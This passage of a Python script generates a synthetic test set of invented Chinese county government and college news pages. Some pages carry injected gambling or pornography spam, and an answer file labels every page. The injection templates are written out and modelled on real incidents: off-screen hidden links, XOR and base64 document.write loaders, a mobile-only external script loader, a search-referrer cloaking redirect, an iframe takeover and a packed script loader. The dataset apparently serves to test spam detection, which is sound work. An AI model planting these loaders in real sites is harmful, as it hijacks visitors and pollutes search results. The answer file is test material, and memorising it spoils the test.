    """Return (slots, spam_strings, marker, inj_html_list, extra) for a form.  `inj_html_list` lists the injected
    blocks verbatim (the validator checks them for shared code and presence)."""
    b = brands
    ss, slots, marker, extra = [], {}, None, {}
    cls = "".join(r.choice("abcdefghkmnpqrstuvwxyz") for _ in range(6))
    if form == "hidden-offscreen-links":
        # modelled on hidden 暗链 blocks: an absolutely placed div pushed off the screen holding anchor links
        links = "".join(f'<a href="https://{dom}/?u={k}" target="_blank">{x}</a>' for k, x in enumerate(b))
        h = f'<div style="position:absolute;left:-{r.randint(3000, 9000)}px;top:-{r.randint(500, 900)}px;width:1px;overflow:hidden">{links}</div>\n'
        slots["body_top"] = h
        ss = list(b)
    elif form == "keyword-title-meta":
        # spam <title> with the real headline after it; keywords/description stuffed (body untouched)
        t = "_".join(b) + "_" + page_title
        extra["head_title"] = t
        extra["meta_kw"] = ",".join(b)
        extra["meta_desc"] = f"{b[0]}官方网站提供{b[1]}、{b[2]}等在线服务,新用户注册即送体验金。"
        h = f"<title>{t}</title>"
        ss = list(b)
        slots["_inline"] = h
    elif form == "xor-charcode-docwrite":
        # modelled on obfuscated loaders that rebuild a string from char codes and document.write it
        k = r.randint(11, 90)
        payload = '<div style="display:none">' + "".join(f'<a href="https://{dom}/">{x}</a>' for x in b) + "</div>"
        fn = "_" + cls
        h = (f'<script type="text/javascript">(function({fn}){{var s="",c=[{xor_codes(payload, k)}];'
             f'for(var j=0;j<c.length;j++){{s+=String.fromCharCode(c[j]^{fn});}}document.write(s);}})({k});</script>\n')
        slots["body_end"] = h
        marker = f"^{fn});}}document.write(s)"
    elif form == "body-spam-line":
        # a spam line added inside the article body (last paragraph), small grey font
        line = f"推荐阅读：{b[0]} {b[1]} {b[2]}(永久网址 {dom})"
        h = f'<p style="font-size:12px;color:#999">{line}</p>\n'
        slots["content_end"] = h
        ss = [b[0], b[1], b[2], dom]
    elif form == "mobile-ua-hex-loader":
        # modelled on jinhailang/blog#55: an escaped inline loader adds an external script for phones only
        src = f"https://{dom}/m/{r.randint(100, 999)}.js"
        h = (f'<script>var _{cls}="{jsesc_hex(src)}";if(/android|iphone|ipad|mobile|micromessenger/i.test(navigator.userAgent))'
             f'{{var _e=document.createElement("script");_e.src=_{cls};document.getElementsByTagName("head")[0].appendChild(_e);}}</script>\n')
        slots["head_script"] = h
        marker = f'var _{cls}="'
    elif form == "referrer-cloak-redirect":
        # modelled on diamont1001/blog#9 and uBlockOrigin/uAssets#20036: only visitors arriving from a search engine
        # are sent to the gambling site
        tgt = f"https://{dom}/?from={r.randint(1000, 9999)}"
        h = (f'<script type="text/javascript">var r{cls}=document.referrer.toLowerCase();'
             f'if(r{cls}.indexOf("baidu.")>-1||r{cls}.indexOf("sogou.")>-1||r{cls}.indexOf("so.com")>-1||r{cls}.indexOf("sm.cn")>-1||r{cls}.indexOf("google.")>-1)'
             f'{{window.location.replace("{tgt}");}}</script>\n')
        slots["head_script"] = h
        marker = tgt
    elif form == "title-rewrite-script":
        # document.title replaced by a script in the body (the served <title> is clean)
        t = f"{b[0]}-{b[1]}-{b[2]}"
        h = f'<script>document.title="{t}";</script>\n'
        slots["body_top"] = h
        ss = [t]
    elif form == "friend-links-sold":
        # 友情链接 block with bought gambling links among real ones
        real = '<a href="http://www.gov.cn/">中国政府网</a> '
        h = f'<div class="yqlj">友情链接：{real}' + " ".join(f'<a href="https://{dom}/{k}/">{x}</a>' for k, x in enumerate(b)) + "</div>\n"
        slots["friend_links"] = h
        ss = list(b)
    elif form == "iframe-takeover":
        # a full-window iframe laid over the page, the page itself intact underneath
        h = (f'<iframe src="https://{dom}/index.html" frameborder="0" scrolling="auto" '
             f'style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:2147483647;background:#fff"></iframe>\n')
        slots["body_top"] = h
        marker = f'src="https://{dom}/index.html"'
    elif form == "meta-refresh":
        # meta refresh to the spam site after a short delay, with the spam brand in <title> prefix
        h = f'<meta http-equiv="refresh" content="{r.randint(1, 4)};url=https://{dom}/">\n'
        slots["head_meta"] = h
        extra["head_title"] = f"{b[0]}【官网】- {page_title}"
        ss = [b[0]]
        marker = f"url=https://{dom}/"
    elif form == "atob-docwrite":
        # base64 payload decoded and written into the page (spam links visible only after the script runs)
        payload = '<div id="' + cls + '" style="height:0;overflow:hidden">' + "".join(f'<a href="https://{dom}/">{x}</a>' for x in b) + "</div>"
        h = f'<script>document.write(decodeURIComponent(escape(window.atob("{b64(payload)}"))));</script>\n'
        slots["body_end"] = h
        marker = b64(payload)[:48]
    elif form == "id-slot-hidden-block":
        # modelled on the Indonesian slot spam reports (OLIV853 issues): link text in Indonesian, hidden by a class
        # whose display:none rule sits in <head>
        st = f"<style>.{cls}{{display:none!important}}</style>\n"
        words = ["situs slot gacor", "daftar", "link alternatif", "slot online terpercaya"]
        links = " ".join(f'<a href="https://{dom}/{x.lower()}">{x} {words[k % 4]}</a>' for k, x in enumerate(b))
        h = f'<div class="{cls}">{links}</div>\n'
        slots["head_script"] = st
        slots["footer"] = h
        slots["friend_links"] = h  # for templates without a footer slot; only one of them is used (see apply)
        ss = list(b)
    elif form == "noscript-spam":
        h = "<noscript>" + "".join(f'<a href="https://{dom}/">{x}</a>' for x in b) + "</noscript>\n"
        slots["body_top"] = h
        ss = list(b)
    elif form == "marquee-1px":
        h = f'<marquee height="1" width="1" scrollamount="{r.randint(3000, 9000)}">' + "|".join(f'<a href="https://{dom}/">{x}</a>' for x in b) + "</marquee>\n"
        slots["after_nav"] = h
        ss = list(b)
    elif form == "keyword-line-top":
        # a visible keyword line put just before the article body
        h = f'<p class="tj">{"、".join(b)}——{dom}</p>\n'
        slots["content_top"] = h
        ss = list(b) + [dom]
    elif form == "brand-credit":
        h = f'<p class="support">技术支持：<a href="https://{dom}/">{b[0]}</a></p>'
        slots["credit"] = h
        ss = [b[0]]
    elif form == "packed-split-loader":
        # modelled on the <noindex><script>eval(...) packed loaders quoted in mdpabel/mdpabel.com-v4:
        # a word table + index string rebuilt into a script element (own packer, not Dean Edwards')
        words = ["https:", "", dom, "js", f"c{r.randint(10, 99)}.js"]
        order = "0|1|2|3|4"
        h = (f'<noindex><script type="text/javascript" rel="nofollow">(function(w,o){{var u=o.split("|").map(function(i){{return w[+i]}}).join("/");'
             f'var e=document.createElement("scr"+"ipt");e.async=true;e.src=u;(document.body||document.documentElement).appendChild(e)}})'
             f'({json.dumps(words)},"{order}");</script></noindex>\n')
        slots["body_end"] = h
        marker = json.dumps(words)
    elif form == "spam-source":
        # the 来源 field of the byline replaced by a gambling brand (handled in build: source shown = brand)
        extra["source_shown"] = b[0]
        ss = [b[0]]
        h = b[0]
    elif form == "trad-mirror":
        h = ""
    else:
        raise ValueError(form)
    return slots, ss, marker, h, extra


# ---------------------------------------------------------------- traditional-script mirror (char table for the texts used)
S2T = dict(zip("县开展汛前水利设施安全大检查组对辖区座小型库处山塘和重点河段堤防坝体溢洪道放水及雨情测报设备运行况查阅值班记录预案现场交办问题隐患责任单位要在主期到来完成整改落实巡警转移等各项措确保度发布时间来源局关于为门广东华网站区页新闻动态",
               "縣開展汛前水利設施安全大檢查組對轄區座小型庫處山塘和重點河段堤防壩體溢洪道放水及雨情測報設備運行況查閱值班記錄預案現場交辦問題隱患責任單位要在主期到來完成整改落實巡警轉移等各項措確保度發佈時間來源局關於為門廣東華網站區頁新聞動態"))
S2T.update(dict(zip("们这个会实务发种点说经过电话进还问题时从长应级让该议认关须现样术业标热较东药岁读资织数务总计划进导农国报乡镇乐际彩", "們這個會實務發種點說經過電話進還問題時從長應級讓該議認關須現樣術業標熱較東藥歲讀資織數務總計劃進導農國報鄉鎮樂際彩")))


def to_trad(s):
    return "".join(S2T.get(c, c) for c in s)


# ---------------------------------------------------------------- sites and pages
PLACES = [  # (place, host, kind, site_name) -- invented
    ("岚垭县", "www.lanya.gov.cn", "gov", "岚垭县人民政府"),
    ("檀溪县", "www.tanxi-xian.gov.cn", "gov", "檀溪县人民政府"),
    ("鹭汀职业技术学院", "www.ludingvtc.edu.cn", "edu", "鹭汀职业技术学院"),
    ("栖梧市", "www.qiwushi.gov.cn", "gov", "栖梧市人民政府"),
]
SINGLES = [  # (place, host, kind, site_name)
    ("沅禾县", "www.yuanhe-xian.gov.cn", "gov", "沅禾县人民政府"), ("苍岑县", "www.cangcen.gov.cn", "gov", "苍岑县人民政府"),
    ("澧阳县", "www.liyangxian.gov.cn", "gov", "澧阳县人民政府"), ("枫泾职业学院", "www.fjzyxy.edu.cn", "edu", "枫泾职业学院"),
    ("桐岙县", "www.tongao.gov.cn", "gov", "桐岙县人民政府"), ("邕岭师范高等专科学校", "www.ylsz.edu.cn", "edu", "邕岭师范高等专科学校"),
    ("朔川县", "www.shuochuan.gov.cn", "gov", "朔川县人民政府"), ("渠阳县", "jyj.quyang-xian.gov.cn", "gov", "渠阳县教育局"),
    ("萝溪县", "www.luoxi.gov.cn", "gov", "萝溪县人民政府"), ("临皋县", "www.lingao-x.gov.cn", "gov", "临皋县人民政府"),
    ("汀澜技师学院", "www.tljsxy.edu.cn", "edu", "汀澜技师学院"), ("麓岩县", "www.luyan.gov.cn", "gov", "麓岩县人民政府"),
    ("榆陂县", "mzj.yubei-x.gov.cn", "gov", "榆陂县民政局"), ("棠浦县", "www.tangpu-x.gov.cn", "gov", "棠浦县人民政府"),
    ("岫川县", "www.xiuchuan.gov.cn", "gov", "岫川县人民政府"), ("云岙县", "www.yunao.gov.cn", "gov", "云岙县人民政府"),
    ("梓桐医学高等专科学校", "www.ztyz.edu.cn", "edu", "梓桐医学高等专科学校"), ("曲沃川市", "tyj.quwochuan.gov.cn", "gov", "曲沃川市体育局"),
    ("泸汐县", "gaj.luxi-x.gov.cn", "gov", "泸汐县公安局"), ("汐浦县", "www.xipu-x.gov.cn", "gov", "汐浦县人民政府"),
]
MIRROR_HOST = "www.hkjcxw-news.com"

# site plan: (site index, template, shared form, hijacked positions (1-based), legit position or None)
SITE_PLAN = [
    (0, "T1", "hidden-offscreen-links", (1, 3, 4), 5),
    (1, "T2", "keyword-title-meta", (1, 2, 4), None),
    (2, "T3", "xor-charcode-docwrite", (2, 3, 5), 4),
    (3, "T4", "body-spam-line", (1, 3, 5), None),
]
# singles: (single index, template, form or None for clean, legit topic or None)
SINGLE_PLAN = [
    (0, "T5", "referrer-cloak-redirect", None), (1, "T6", "title-rewrite-script", None),
    (2, "T1", "friend-links-sold", None), (3, "T3", "iframe-takeover", None),
    (4, "T5", "meta-refresh", None), (5, "T6", "atob-docwrite", None),
    (6, "T2", "id-slot-hidden-block", None), (7, "T4", "noscript-spam", None),
    (8, "T5", "marquee-1px", None), (9, "T6", "keyword-line-top", None),
    (10, "T3", "brand-credit", None), (11, "T1", "mobile-ua-hex-loader", None),
    (12, "T2", "packed-split-loader", None), (13, "T4", "spam-source", None),
    (14, "T5", "trad-mirror", None), (15, "T6", "hidden-offscreen-links", None),
    (16, "T3", None, None), (17, "T5", None, "L_sportslot"),
    (18, "T6", None, "L_police"), (19, "T1", None, None),
]
SINGLE_TOPIC = {7: ["teacher", "campus_safety"], 12: ["elder"]}


def brand_set(r, form, used, k=3):
    if form in ("id-slot-hidden-block",):
        pool = ID_SLOT
    elif form in ("noscript-spam", "body-spam-line"):
        pool = ZH_PORN
    else:
        pool = ZH_GAMBLE
    avail = [x for x in pool if x not in used] or list(pool)
    out = r.sample(avail, min(k, len(avail)))
    used.update(out)
    return out


def page_common(r, place, host, kind, site_name, tpl, topic, seq):
    y = r.choice([2024, 2025])
    mo, da = r.randint(1, 12), r.randint(3, 28)
    title, paras, dept = art_gov(r, place, topic, y, mo, da)
    date = f"{y}-{mo:02d}-{da:02d}"
    if kind == "edu":
        source = r.choice(["党委宣传部", dept, "新闻中心"])
    else:
        source = f"{place}{dept}" if not place.endswith(("局",)) else place
    author = person(r) if r.random() < 0.75 else None
    if author and r.random() < 0.3:
        author = author + " " + person(r)
    vid = r.randint(10000, 99999)
    path = {"T1": f"/art/{y}/{mo}/{da}/art_{r.randint(1000, 9999)}_{vid}.html",
            "T2": f"/Show.aspx?ClassID=15&ID={vid}",
            "T3": f"/news/view?id={vid}",
            "T4": f"/news/{vid}",
            "T5": f"/news/{y}{mo:02d}/t{y}{mo:02d}{da:02d}_{vid}.html",
            "T6": f"/ViewPost.aspx?ItemID={vid}"}[tpl]
    p = dict(title=title, paras=paras, date=date, time=f"{r.randint(8, 18):02d}:{r.randint(0, 59):02d}",
             source=source, author=author, site_name=site_name, host=host, url=f"https://{host}{path}", place=place,
             head_title=f"{title}_{site_name}" if r.random() < 0.7 else title,
             meta_kw=f"{site_name},{dept}", meta_desc=title, views_id=vid,
             site_code="".join(r.choice("0123456789") for _ in range(10)),
             icp=f"{r.choice('湘赣黔滇桂皖浙闽')}ICP备{r.randint(10000000, 99999999)}号",
             gongan=f"{r.choice('湘赣黔滇桂皖浙闽')}公网安备 {r.randint(10000000000000, 99999999999999)}号",
             index_no=f"{r.randint(100000000, 999999999)}/{y}-{r.randint(10000, 99999)}",
             addr_no=r.randint(1, 300), csrf="".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-") for _ in range(56)),
             editor=person(r), place_addr=f"{place}学府路{r.randint(1, 200)}号",
             hash="".join(r.choice("0123456789abcdef") for _ in range(8)),
             viewstate="/wE" + "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(120)),
             inj={}, topic=topic)
    return p


def apply(p, tpl, form, slots, extra):
    inj = dict(slots)
    inj.pop("_inline", None)
    if form == "id-slot-hidden-block":
        # one placement only: footer slot exists in T1; friend_links elsewhere
        if tpl == "T1":
            inj.pop("friend_links")
        else:
            inj.pop("footer")
    p["inj"] = inj
    for k in ("head_title", "meta_kw", "meta_desc"):
        if k in extra:
            p[k] = extra[k]


def build():
    r = random.Random(SEED)
    used = set()
    DOMAINS = list(DOMAINS_ALL)
    pages = []
    # ---- sites
    site_pages = []
    for si, tpl, form, hij_pos, legit_pos in SITE_PLAN:
        place, host, kind, site_name = PLACES[si]
        topics = r.sample(GOV_TOPICS if kind == "gov" else EDU_TOPICS, 5)
        if legit_pos:
            topics[legit_pos - 1] = "L_welfare" if kind == "gov" else "L_campus"
        brands = brand_set(r, form, used)
        dom = DOMAINS.pop(r.randrange(len(DOMAINS)))
        shared = None
        for pos in range(1, 6):
            p = page_common(r, place, host, kind, site_name, tpl, topics[pos - 1], pos)
            hij = pos in hij_pos
            if hij:
                if shared is None:
                    shared = make_injection(form, r, brands, dom, p["title"])
                slots, ss, marker, h, extra = shared
                if form == "keyword-title-meta":  # the title prefix is shared, the real headline differs
                    t = "_".join(brands) + "_" + p["title"]
                    extra = dict(extra, head_title=t)
                    h = f"<title>{t}</title>"
                apply(p, tpl, form, slots, extra)
                p.update(hijacked=True, injections=[form], spam_strings=ss, marker=marker, inj_html=h)
            else:
                p.update(hijacked=False, injections=[], spam_strings=[], marker=None, inj_html="")
            p.update(template=tpl, site=host, legit=p["topic"].startswith("L_"))
            site_pages.append(p)
    # ---- singles
    single_pages = []
    for k, tpl, form, legit in SINGLE_PLAN:
        place, host, kind, site_name = SINGLES[k]
        if legit:
            topic = legit
        elif k in SINGLE_TOPIC:
            topic = r.choice(SINGLE_TOPIC[k])
        else:
            topic = r.choice(GOV_TOPICS if kind == "gov" else EDU_TOPICS)
        if form == "trad-mirror":
            topic = "flood"
        p = page_common(r, place, host, kind, site_name, tpl, topic, 1)
        if form is None:
            p.update(hijacked=False, injections=[], spam_strings=[], marker=None, inj_html="")
        elif form == "trad-mirror":
            # a county page copied whole onto an unrelated .com host and converted to traditional script; the
            # copier's own nav carries gambling links
            brands = brand_set(r, "x", used)
            dom = DOMAINS.pop(r.randrange(len(DOMAINS)))
            for key in ("title", "source", "site_name", "place", "head_title"):
                p[key] = to_trad(p[key])
            p["paras"] = [to_trad(x) for x in p["paras"]]
            nav = '<div class="mirror-nav">' + " | ".join(f'<a href="https://{dom}/{j}.html">{x}</a>' for j, x in enumerate(brands)) + "</div>\n"
            p["inj"] = {"body_top": nav}
            p["host"] = MIRROR_HOST
            p["url"] = f"https://{MIRROR_HOST}/news/{p['views_id']}.html"
            p.update(hijacked=True, injections=["trad-mirror", "mirror-nav-links"], spam_strings=brands, marker=None, inj_html=nav)
            host = MIRROR_HOST
        else:
            nb = {"meta-refresh": 1, "brand-credit": 1, "spam-source": 1, "referrer-cloak-redirect": 0,
                  "mobile-ua-hex-loader": 0, "iframe-takeover": 0, "packed-split-loader": 0}.get(form, 3)
            brands = brand_set(r, form, used, nb) if nb else []
            dom = DOMAINS.pop(r.randrange(len(DOMAINS)))
            slots, ss, marker, h, extra = make_injection(form, r, brands, dom, p["title"])
            apply(p, tpl, form, slots, extra)
            if "source_shown" in extra:
                p["source_real"] = None
                p["source"] = extra["source_shown"]
            p.update(hijacked=True, injections=[form], spam_strings=ss, marker=marker, inj_html=h)
        p.update(template=tpl, site=host, legit=bool(legit))
        single_pages.append(p)
    # interleave: ids in a shuffled order so sites are not contiguous
    allp = site_pages + single_pages
    order = list(range(len(allp)))
    r.shuffle(order)
    out = []
    for n, j in enumerate(order, 1):
        p = allp[j]
        p["id"] = f"sv42-{n:03d}"
        out.append(p)
    return out


def render(p):
    fn, enc = TEMPLATES[p["template"]]
    return fn(p), enc


def truth_row(p, enc):
    form = p["injections"][0] if p["injections"] else None
    if form == "spam-source":
        source = None
    else:
        source = p["source"]
    kind_word = "edu" if ".edu." in p["url"] else "gov"
    if p["hijacked"] and form == "trad-mirror":
        origin = ("synthetic: mirror — a county page copied whole onto an unrelated .com host, converted to traditional "
                  "script, the copier's nav carrying gambling links; labelled hijacked as a mirror (KEEPER item 6); template "
                  f"{p['template']}")
    elif p["hijacked"]:
        origin = f"synthetic: {kind_word} page on invented host, template {p['template']}, injection {form}"
    elif p["legit"]:
        origin = f"synthetic: clean {kind_word} page on invented host, legit (lottery / gambling regulation topic), template {p['template']}"
    else:
        origin = f"synthetic: clean {kind_word} page on invented host, template {p['template']}"
    return {"id": p["id"], "url": p["url"], "title": p["title"], "date": p["date"], "source": source,
            "author": p["author"], "text": "\n".join(p["paras"]), "hijacked": p["hijacked"],
            "injections": p["injections"], "spam_strings": p["spam_strings"], "legit": p["legit"], "lang": "zh",
            "origin": origin, "kind": "synthetic", "site": p["site"], "capture": "html", "encoding": enc,
            "template": p["template"], "marker": p["marker"]}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default=DEFAULT_OUT)
    a = ap.parse_args()
    os.makedirs(os.path.join(a.out, "html"), exist_ok=True)
    rows = []
    for p in build():
        html, enc = render(p)
        with open(os.path.join(a.out, "html", p["id"] + ".html"), "wb") as f:
            f.write(html.encode(enc))
        rows.append(truth_row(p, enc))
    with open(os.path.join(a.out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(f"wrote {len(rows)} pages to {a.out}")


if __name__ == "__main__":
    main()
